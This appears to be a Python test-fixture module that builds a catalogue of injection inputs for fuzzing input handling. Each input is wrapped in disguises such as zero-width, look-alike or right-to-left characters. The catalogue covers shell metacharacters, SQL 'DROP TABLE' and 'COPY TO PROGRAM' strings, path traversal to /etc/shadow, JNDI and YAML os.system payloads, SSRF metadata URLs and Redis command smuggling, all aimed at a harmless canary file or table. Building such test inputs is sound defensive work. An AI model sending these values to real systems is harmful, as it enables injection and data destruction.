"""Values that want to be more than a value: each a thing to reach, in some form, in some dress.

`values()` gives every one once, in a fixed order, each with a name. All were written for these
tests. What a value tries to reach is `canary`: a file that must not appear, a table that must
stay. `{file}` in a form is that file's path, `{table}` the table.
"""

from __future__ import annotations

import dataclasses
import urllib.parse
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

DEED = "touch {file}"
FORMS: dict[str, tuple[str, ...]] = {
    "shell": (
        *("; {deed}", "| {deed}", "|| {deed}", "& {deed}", "&& {deed}", "|& {deed}", "! {deed}"),
        *("$({deed})", "`{deed}`", "$(<{file})", "<({deed})", ">({deed})", "> {file}", ">> {file}"),
        *("< {file}", "2>{file}", "&>{file}", "<<< {file}", "{{ {deed}; }}", "( {deed} )"),
        *("#{deed}",),
        *("$'\\n{deed}'", "${{IFS}}{deed}", "a;{deed};b", "a\n{deed}", "a\r\n{deed}", "\\\n{deed}"),
        *("$0", "$@", "$$", "~root/x", "!!", "!$", "$[{deed}]", "$(({deed}))"),
        *("if :; then {deed}; fi",),
    ),
    "quoting": (
        *("'; {deed}; '", '"; {deed}; "', "'$({deed})'", '"$({deed})"', "'`{deed}`'"),
        *("\\'; {deed}",),
        *("'", '"', "''", '""', "'\"'", "\\", "\\\\", "\\'", '\\"', "`", "``", "$'", "'\\''"),
    ),
    "options": (
        *("-x", "--x", "--", "-", "--help", "--version", "-rf", "--no-preserve-root", "-exec"),
        *("-delete",),
        *("-oProxyCommand={deed}", "--use-compress-program={deed}"),
        *("--checkpoint-action=exec={deed}",),
        *("--to-command={deed}", "--config={file}", "-o{file}", "--output={file}", "-w{file}"),
        *("-i",),
        *("--eval={deed}", "-c{deed}", "--rcfile={file}", "-e{deed}", "--exec={deed}", "@{file}"),
    ),
    "paths": (
        *("../{file}", "../../../../../..{file}", "/../..{file}", "/srv/../..{file}", "/srv/./x"),
        *("//{file}", "/srv//{file}", "..", ".", "/", "/..", "./..", "....//....//{file}", "..;/x"),
        *("/proc/self/root{file}", "/proc/self/environ", "/dev/stdin", "/dev/fd/0", "/dev/tcp/h/1"),
        *("/etc/shadow", "/etc/passwd%00", "file://{file}", "\\\\host\\share", "C:\\x"),
        *("..\\..\\x",),
        *("%2e%2e%2f{file}", "..%2f..%2f{file}", "..%252f{file}", "%c0%ae%c0%ae/{file}", "/srv/*"),
        *("/srv/?", "/srv/[a-z]", "/srv/{{a,b}}", "*", "**", "?", "[!a]", "{{a,b}}", "~", "~+"),
        *("~-",),
    ),
    "templates": (
        *("{{{{ {deed} }}}}", "{{{{7*7}}}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>"),
        *("{{% {deed} %}}",),
        *("%(p)s", "%(password)s", "%s%s%s", "%n%n", "%x%x", "%d", "%%", "%1$s", "{{}}", "{{0}}"),
        *("{{0.__class__}}", "{{p}}", "{{param: p}}", "${{p}}", "$p", "%p%", "@p", ":p", "$1", "?"),
        *("${{jndi:ldap://h.invalid/a}}", "${{env:HOME}}", "$HOME", "$PATH", "%PATH%"),
        *("$ENV{{HOME}}",),
        *("__import__('os').system('{deed}')", "exec('{deed}')", "eval(7*7)", "lambda: 0"),
    ),
    "sql": (
        *("' OR '1'='1", "'; DROP TABLE {table}; --", '"; DROP TABLE {table}; --'),
        *("1; DROP TABLE {table}",),
        *("') OR ('1'='1", "' UNION SELECT 1 --", "'/**/OR/**/1=1", "1 OR 1=1", "' OR 1=1 #"),
        *("x'--",),
        *("'; DELETE FROM {table}; --", "'; UPDATE {table} SET name='x'; --", "'||'x'||'", "$$x$$"),
        *("'; COPY {table} TO '{file}'; --", "'; COPY {table} TO PROGRAM '{deed}'; --"),
        *("\\'; SELECT 1",),
        *("%' OR name LIKE '%", "_", "%", "E'\\x27'", "U&'\\0027'", "1)); SELECT pg_sleep(0)--"),
        *("NULL",),
        *("' INTO OUTFILE '{file}' --", "0x31", "CHAR(39)", "`; DROP TABLE {table}; `"),
        *("/*!50000 1*/",),
    ),
    "other languages": (
        *("*)(uid=*))(|(uid=*", "*)(&", "admin)(|(password=*)", "\\2a\\28\\29", "x' or name()='x"),
        *("]]>", "<!--", "<x>", "</x>", '<!DOCTYPE x SYSTEM "file://{file}">', "&xxe;", "<?xml?>"),
        *('"}}', '"}}]', "}}, {{", '","x":"y', "null", "true", "[]", "{{}}", '{{"$gt": ""}}'),
        *("[1,2]",),
        *("x: y", "- x", "? x", "&a x", "*a", "!!python/object/apply:os.system ['{deed}']", "|"),
        *(">",),
        *("# x", "--- x", "... ", "%YAML 1.2", "@x", "x\n- y", "x\n  y: z", "~ ", "yes", "0o17"),
        *("1_0",),
    ),
    "protocols": (
        *("x\r\nFLUSHALL\r\n", "x\r\nCONFIG SET dir /\r\n", "*1\r\n$8\r\nFLUSHALL\r\n"),
        *("x\nSHUTDOWN\n",),
        *("x\r\nHost: h.invalid", "x HTTP/1.1\r\nX: y\r\n\r\n", "x\r\n\r\nGET / HTTP/1.0\r\n\r\n"),
        *("show stat; disable server x/y", "x\ndisable server x/y\n"),
        *("a/b; shutdown sessions server",),
        *("x\r\nQUIT\r\n", "EHLO h\r\nMAIL FROM:<x>", "\x16\x03\x01"),
        *("\x00\x00\x00\x08\x04\xd2\x16\x2f",),
    ),
    "addresses": (
        *("http://169.254.169.254/", "http://[::1]:22/", "http://127.1/", "http://2130706433/"),
        *("http://0x7f.1/", "http://0177.0.0.1/", "http://a@127.0.0.1/"),
        *("http://127.0.0.1#@h.invalid",),
        *("http://127.0.0.1\\@h.invalid/", "//h.invalid/x", "javascript:1", "data:,x"),
        *("gopher://h:1/x",),
        *("unix:/run/x.sock", "ftp://h.invalid", "http://h.invalid:80", "127.0.0.1:80/../x"),
        *("h:1;x",),
    ),
    "assignments": (
        *("LD_PRELOAD={file}", "PATH={file}", "BASH_ENV={file}", "IFS=x", "PYTHONPATH={file}"),
        *("A=B {deed}", "env -S{deed}", "export A={file}", "PS4=$({deed})"),
        *("GIT_SSH_COMMAND={deed}",),
    ),
    "numbers": (
        *("-1", "+1", "0", "00", "01", "1e9", "1E400", "1.5", ".5", "1.", "0x10", "0b1", "1_000"),
        *("NaN",),
        *("inf", "-inf", "1,000", "1 000", "99999999999999999999", "-0", "1h;x", "1h1", "7dd"),
        *("50%%",),
        *("50%;", "50 %", "9999999%", "1/0", "2**31", "4294967296", "\u0661\u0662", "\uff11"),
        *("1\u00b2",),
        *("1-2", "1..9", "1;2", "1|2", "1&2", "$((1))", "1h", "90s", "3", "12", "50%", "1m\n"),
        *("\t1", "1\x00"),
    ),
    "lengths": (
        *("a" * 254, "a" * 255, "a" * 256, "a" * 4_097, "A/" * 3_000, "1" * 400, "\u00e9" * 128),
        "",
    ),
}  # fmt: skip

_FULL_WIDTH = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}
_LOOK_ALIKE = str.maketrans("aeopcx;/", "\u0430\u0435\u043e\u0440\u0441\u0445\u037e\u2215")

# How a form comes along. Not every dress suits every form; what comes out twice counts once.
DRESSES: dict[str, Callable[[str], str]] = {
    "bare": lambda text: text,
    "behind a good value": lambda text: f"benign{text}",
    "before a good value": lambda text: f"{text}benign",
    "behind a blank": lambda text: f" {text}",
    "behind a line end": lambda text: f"benign\n{text}",
    "behind a zero byte": lambda text: f"benign\x00{text}",
    "in colours": lambda text: f"\x1b[2J\x1b]0;{text}\x07",
    "right to left": lambda text: f"\u202e{text[::-1]}\u202c",
    "zero width": lambda text: "\u200b".join(text[:80]),
    "full width": lambda text: text.translate(_FULL_WIDTH),
    "look-alikes": lambda text: text.translate(_LOOK_ALIKE),
    "url": lambda text: urllib.parse.quote(text, safe=""),
}


@dataclasses.dataclass(frozen=True)
class Value:
    """One value and what it is called."""

    name: str
    text: str


def values(*, file: str = "/tmp/injected", table: str = "canary") -> tuple[Value, ...]:
    """Return all of them; no text twice."""
    found: dict[str, Value] = {}
    for name, text in _dressed(file, table):
        found.setdefault(text, Value(name, text))
    return tuple(found.values())


def _dressed(file: str, table: str) -> Iterator[tuple[str, str]]:
    deed = DEED.format(file=file)
    for dress, wear in DRESSES.items():
        for family, forms in FORMS.items():
            for number, form in enumerate(forms):
                text = form.format(file=file, table=table, deed=deed)
                yield f"{family} {number}, {dress}", wear(text)
